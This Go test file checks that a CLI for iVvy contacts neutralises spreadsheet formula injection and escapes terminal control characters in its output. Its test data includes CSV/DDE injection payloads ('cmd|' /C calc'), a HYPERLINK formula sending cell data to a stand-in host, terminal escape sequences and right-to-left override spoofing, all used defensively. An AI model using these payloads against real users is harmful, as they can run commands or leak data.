package main

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	ivvyfake "github.com/invitekit/invitekit/fake/ivvyfake"
)

func TestEscapeControls(t *testing.T) {
	for in, want := range map[string]string{
		"plain Zoë 名前":           "plain Zoë 名前",
		"a\tb\nc\rd":             `a\tb\nc\rd`,
		"\x1b[31mred\x1b[0m":     `\x1b[31mred\x1b[0m`,
		"\x1b]0;title\x07":       `\x1b]0;title\x07`,
		"del\x7f":                `del\x7f`,
		"csi\u009b2J":            `csi\u009b2J`,
		"gnp.exe\u202e":          `gnp.exe\u202e`,
		"\u2066iso\u2069":        `\u2066iso\u2069`,
		"\u200e\u200f\u061c":     `\u200e\u200f\u061c`,
		"line\u2028sep":          `line\u2028sep`,
		"bad \xff byte":          `bad \xff byte`,
		"\uFFFD stays":           "\uFFFD stays",
		"":                       "",
		"nul\x00":                `nul\x00`,
		"backslash \\ unchanged": "backslash \\ unchanged",
	} {
		assert.Equal(t, want, escapeControls(in), "%q", in)
	}
}

func TestNeutraliseCell(t *testing.T) {
	for in, want := range map[string]string{
		`=HYPERLINK("http://evil.example","x")`: `'=HYPERLINK("http://evil.example","x")`,
		"+cmd|' /C calc'!A0":                    "'+cmd|' /C calc'!A0",
		"@SUM(1+1)*cmd|' /C calc'!A0":           "'@SUM(1+1)*cmd|' /C calc'!A0",
		"-2+3":                                  "'-2+3",
		"\t=1":                                  "'\t=1",
		"\r=1":                                  "'\r=1",
		"Alice":                                 "Alice",
		"a=b":                                   "a=b",
		"":                                      "",
	} {
		assert.Equal(t, want, neutraliseCell(in), "%q", in)
	}
}

// hostileNames are contact names a hostile server (or a careless import)
// could hold.
var hostileNames = []string{
	`=HYPERLINK("http://evil.example/?"&A1,"click")`,
	"+cmd|' /C calc'!A0",
	"@SUM(1+1)*cmd|' /C calc'!A0",
	"-2+3",
	"\x1b]0;owned\x07\x1b[2J",
	"bell\x07 and csi\u009b31m",
	"exe.\u202egnp",
	"two\nlines\tand tab",
}

// hostileIvvy serves an iVvy fake whose only contacts carry hostileNames as
// first names.
func hostileIvvy(t *testing.T) map[string]string {
	t.Helper()
	f := ivvyfake.New(ivvyfake.WithKey(ivvyfake.DemoKey, ivvyfake.DemoSecret))
	for i, n := range hostileNames {
		f.AddContact(ivvyfake.Contact{FirstName: n, LastName: "L", Email: fmt.Sprintf("h%d@example.com", i+1)})
	}
	srv := httptest.NewServer(f)
	t.Cleanup(srv.Close)
	return map[string]string{"IVVY_BASE_URL": srv.URL, "IVVY_API_KEY": ivvyfake.DemoKey, "IVVY_API_SECRET": ivvyfake.DemoSecret}
}

func TestCSVCellsCannotBecomeFormulas(t *testing.T) {
	environ := hostileIvvy(t)
	code, out, errOut := runCLI(t, environ, "ivvy", "contacts", "--format", "csv")
	require.Equal(t, 0, code, errOut)
	header, rows := csvRecords(t, out)
	require.Len(t, rows, len(hostileNames))
	for i, n := range hostileNames {
		first := rowWith(t, header, rows, "email", fmt.Sprintf("h%d@example.com", i+1))["first_name"]
		assert.Equal(t, neutraliseCell(n), first)
		assert.NotContains(t, "=+-@\t\r", first[:1], "cell %q starts a formula", first)
		assert.Equal(t, fmt.Sprint(i+1), rowWith(t, header, rows, "email", fmt.Sprintf("h%d@example.com", i+1))["id"],
			"numbers the CLI writes are left alone")
	}

	for _, args := range [][]string{
		{"ivvy", "contacts", "--format", "csv", "--csv-raw"},
		{"--csv-raw", "ivvy", "contacts", "--format", "csv"},
	} {
		code, out, errOut = runCLI(t, environ, args...)
		require.Equal(t, 0, code, errOut)
		header, rows = csvRecords(t, out)
		for i, n := range hostileNames {
			assert.Equal(t, n, rowWith(t, header, rows, "email", fmt.Sprintf("h%d@example.com", i+1))["first_name"], "%v: the bytes as sent", args)
		}
	}
}

func TestTableShowsControlCharactersEscaped(t *testing.T) {
	environ := hostileIvvy(t)
	code, out, errOut := runCLI(t, environ, "ivvy", "contacts")
	require.Equal(t, 0, code, errOut)
	lines := strings.Split(strings.TrimSuffix(out, "\n"), "\n")
	assert.Len(t, lines, 1+len(hostileNames), "exactly one line per record:\n%s", out)
	for _, bad := range []string{"\x1b", "\x07", "\u009b", "\u202e", "\t", "\r"} {
		assert.NotContains(t, out, bad)
	}
	header, rows := tableRecords(t, out)
	assert.Equal(t, `\x1b]0;owned\x07\x1b[2J`, rowWith(t, header, rows, "email", "h5@example.com")["first_name"])
	assert.Equal(t, `bell\x07 and csi\u009b31m`, rowWith(t, header, rows, "email", "h6@example.com")["first_name"])
	assert.Equal(t, `exe.\u202egnp`, rowWith(t, header, rows, "email", "h7@example.com")["first_name"])
	assert.Equal(t, `two\nlines\tand tab`, rowWith(t, header, rows, "email", "h8@example.com")["first_name"])
	assert.Equal(t, "L", rowWith(t, header, rows, "email", "h8@example.com")["last_name"], "the columns stay aligned")
}

func TestJSONOutputIsExact(t *testing.T) {
	environ := hostileIvvy(t)
	for _, format := range []string{"json", "jsonl"} {
		code, out, errOut := runCLI(t, environ, "ivvy", "contacts", "--format", format)
		require.Equal(t, 0, code, errOut)
		var got []struct {
			FirstName string `json:"firstName"`
		}
		if format == "json" {
			require.NoError(t, json.Unmarshal([]byte(out), &got), out)
		} else {
			lines := strings.Split(strings.TrimSuffix(out, "\n"), "\n")
			require.Len(t, lines, len(hostileNames))
			for _, l := range lines {
				var c struct {
					FirstName string `json:"firstName"`
				}
				require.NoError(t, json.Unmarshal([]byte(l), &c), l)
				got = append(got, c)
			}
		}
		require.Len(t, got, len(hostileNames))
		for i, n := range hostileNames {
			assert.Equal(t, n, got[i].FirstName, format)
		}
		assert.Contains(t, out, `"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"`, "HTML characters are not escaped")
		assert.NotContains(t, out, "\x1b", "JSON escapes control characters itself")
	}
}

func TestDiagnosticsShowServerTextEscaped(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		w.WriteHeader(http.StatusForbidden)
		_, _ = w.Write([]byte(`{"errorCode":403,"message":"\u001b]0;owned\u0007\u001b[2Jgone \u009b31m \u202eevil\r\nforged line"}`))
	}))
	defer srv.Close()
	code, out, errOut := runCLI(t, map[string]string{"IVVY_BASE_URL": srv.URL, "IVVY_API_KEY": "k", "IVVY_API_SECRET": "s"}, "ivvy", "ping")
	assert.Equal(t, 1, code)
	assert.Empty(t, out)
	for _, bad := range []string{"\x1b", "\x07", "\u009b", "\u202e", "\r"} {
		assert.NotContains(t, errOut, bad)
	}
	assert.Contains(t, errOut, `\x1b]0;owned\x07\x1b[2Jgone \u009b31m \u202eevil\r\nforged line`)
	assert.True(t, strings.HasPrefix(errOut, "invitekit: "), errOut)
	assert.Equal(t, 1, strings.Count(errOut, "\n"), "one diagnostic line: %q", errOut)
}

// signalWriter collects output and closes seen once it contains want.
type signalWriter struct {
	mu   sync.Mutex
	buf  bytes.Buffer
	want string
	seen chan struct{}
	once sync.Once
}

func (w *signalWriter) Write(p []byte) (int, error) {
	w.mu.Lock()
	defer w.mu.Unlock()
	w.buf.Write(p)
	if strings.Contains(w.buf.String(), w.want) {
		w.once.Do(func() { close(w.seen) })
	}
	return len(p), nil
}

func (w *signalWriter) String() string {
	w.mu.Lock()
	defer w.mu.Unlock()
	return w.buf.String()
}

// TestListsStream checks that each format writes the first page's rows
// before the second page is asked for: the server holds the second page
// back until they are on stdout.
func TestListsStream(t *testing.T) {
	for _, format := range []string{"table", "csv", "json", "jsonl"} {
		t.Run(format, func(t *testing.T) {
			f := ivvyfake.New(ivvyfake.WithKey(ivvyfake.DemoKey, ivvyfake.DemoSecret))
			for i := range 150 {
				f.AddContact(ivvyfake.Contact{FirstName: "C", LastName: fmt.Sprint(i + 1), Email: fmt.Sprintf("c%d@example.com", i+1)})
			}
			stdout := &signalWriter{want: "c100@example.com", seen: make(chan struct{})}
			var hits atomic.Int32
			srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
				if hits.Add(1) == 2 {
					select {
					case <-stdout.seen:
					case <-time.After(10 * time.Second):
						t.Errorf("%s: the first page was not printed before the second was asked for", format)
					}
				}
				f.ServeHTTP(w, r)
			}))
			defer srv.Close()
			var errOut bytes.Buffer
			environ := map[string]string{"IVVY_BASE_URL": srv.URL, "IVVY_API_KEY": ivvyfake.DemoKey, "IVVY_API_SECRET": ivvyfake.DemoSecret}
			e := &env{Stdin: strings.NewReader(""), Stdout: stdout, Stderr: &errOut, Getenv: func(k string) string { return environ[k] }}
			code := run(t.Context(), e, []string{"ivvy", "contacts", "--format", format})
			require.Equal(t, 0, code, errOut.String())
			assert.Contains(t, stdout.String(), "c150@example.com")
			assert.Equal(t, int32(2), hits.Load())
		})
	}
}

func TestTableWidthsComeFromTheFirstRows(t *testing.T) {
	f := ivvyfake.New(ivvyfake.WithKey(ivvyfake.DemoKey, ivvyfake.DemoSecret))
	for i := range 120 {
		first := "Ann"
		if i == 109 {
			first = "Bartholomew-Maximilian"
		}
		f.AddContact(ivvyfake.Contact{FirstName: first, LastName: "Lee", Email: fmt.Sprintf("c%d@example.com", i+1)})
	}
	srv := httptest.NewServer(f)
	defer srv.Close()
	environ := map[string]string{"IVVY_BASE_URL": srv.URL, "IVVY_API_KEY": ivvyfake.DemoKey, "IVVY_API_SECRET": ivvyfake.DemoSecret}
	code, out, errOut := runCLI(t, environ, "ivvy", "contacts")
	require.Equal(t, 0, code, errOut)
	header, rows := tableRecords(t, out)
	require.Len(t, rows, 120)
	assert.Equal(t, "first_name", header[1])
	assert.Equal(t, "Bartholom…", rowWith(t, header, rows, "id", "110")["first_name"], "cut to the width of the first 100 rows")
	assert.Equal(t, "Lee", rowWith(t, header, rows, "id", "110")["last_name"])
	assert.Equal(t, "Ann", rowWith(t, header, rows, "id", "120")["first_name"])
}

func TestBrokenListPrintsWhatArrivedAndExitsOne(t *testing.T) {
	f := ivvyfake.New(ivvyfake.WithKey(ivvyfake.DemoKey, ivvyfake.DemoSecret))
	for i := range 130 {
		f.AddContact(ivvyfake.Contact{FirstName: "C", LastName: fmt.Sprint(i + 1), Email: fmt.Sprintf("c%d@example.com", i+1)})
	}
	var hits atomic.Int32
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if hits.Add(1) > 1 {
			w.WriteHeader(http.StatusForbidden)
			_, _ = w.Write([]byte(`{"errorCode":403,"message":"Not Allowed"}`))
			return
		}
		f.ServeHTTP(w, r)
	}))
	defer srv.Close()
	environ := map[string]string{"IVVY_BASE_URL": srv.URL, "IVVY_API_KEY": ivvyfake.DemoKey, "IVVY_API_SECRET": ivvyfake.DemoSecret}
	for format, wantLines := range map[string]int{"table": 101, "csv": 101, "jsonl": 100} {
		hits.Store(0)
		code, out, errOut := runCLI(t, environ, "ivvy", "contacts", "--format", format)
		assert.Equal(t, 1, code, format)
		assert.Contains(t, errOut, "Not Allowed", format)
		assert.Len(t, strings.Split(strings.TrimSuffix(out, "\n"), "\n"), wantLines, format)
	}
	hits.Store(0)
	code, out, _ := runCLI(t, environ, "ivvy", "contacts", "--format", "json")
	assert.Equal(t, 1, code)
	assert.Contains(t, out, "c100@example.com")
	assert.Error(t, json.Unmarshal([]byte(out), new([]any)), "a cut list is not a valid JSON array")
}

func TestGlobalFlags(t *testing.T) {
	e := &env{}
	rest, err := applyGlobalFlags(e, []string{"--timeout", "5s", "ivvy", "contacts", "--csv-raw", "--format", "csv", "--verbose", "--", "--timeout"})
	require.NoError(t, err)
	assert.Equal(t, 5*time.Second, e.timeout)
	assert.True(t, e.csvRaw)
	assert.True(t, e.verbose)
	assert.Equal(t, "csv", e.format)
	assert.Equal(t, []string{"ivvy", "contacts", "--", "--timeout"}, rest)

	e = &env{}
	_, err = applyGlobalFlags(e, []string{"ivvy", "ping", "-timeout=1m", "--csv-raw=false", "--format=jsonl", "--verbose=false"})
	require.NoError(t, err)
	assert.Equal(t, time.Minute, e.timeout)
	assert.False(t, e.csvRaw)
	assert.False(t, e.verbose)
	assert.Equal(t, "jsonl", e.format)

	for _, args := range [][]string{
		{"ivvy", "ping", "--timeout"},
		{"ivvy", "ping", "--timeout", "soon"},
		{"ivvy", "ping", "--timeout=-1s"},
		{"ivvy", "ping", "--csv-raw=maybe"},
		{"ivvy", "ping", "--format", "xml"},
		{"--format"},
	} {
		code, _, errOut := runCLI(t, nil, args...)
		assert.Equal(t, 2, code, "%v", args)
		assert.Contains(t, errOut, "invitekit: --", "%v", args)
	}
}

func TestTimeoutEndsAStalledList(t *testing.T) {
	f := ivvyfake.New(ivvyfake.WithKey(ivvyfake.DemoKey, ivvyfake.DemoSecret))
	for i := range 130 {
		f.AddContact(ivvyfake.Contact{FirstName: "C", LastName: fmt.Sprint(i + 1), Email: fmt.Sprintf("c%d@example.com", i+1)})
	}
	// The fake reads its spec on first use, which can take seconds under the
	// race detector: that happens here, outside the timed command.
	warm := httptest.NewServer(f)
	code, _, errOut := runCLI(t, map[string]string{"IVVY_BASE_URL": warm.URL, "IVVY_API_KEY": ivvyfake.DemoKey, "IVVY_API_SECRET": ivvyfake.DemoSecret}, "ivvy", "ping")
	warm.Close()
	require.Equal(t, 0, code, errOut)

	var hits atomic.Int32
	stop := make(chan struct{})
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if hits.Add(1) > 1 {
			_, _ = io.Copy(io.Discard, r.Body)
			select { // the second page never comes
			case <-r.Context().Done():
			case <-stop:
			}
			return
		}
		f.ServeHTTP(w, r)
	}))
	defer srv.Close()
	defer close(stop)
	environ := map[string]string{"IVVY_BASE_URL": srv.URL, "IVVY_API_KEY": ivvyfake.DemoKey, "IVVY_API_SECRET": ivvyfake.DemoSecret}
	// The limit covers the first page with room to spare on a loaded
	// machine; the second page never comes, so the limit always ends it.
	code, out, errOut := runCLI(t, environ, "ivvy", "contacts", "--format", "csv", "--timeout", "2s")
	assert.Equal(t, 1, code)
	assert.Contains(t, errOut, "--timeout 2s")
	assert.Len(t, strings.Split(strings.TrimSuffix(out, "\n"), "\n"), 101, "the first page was printed")
}
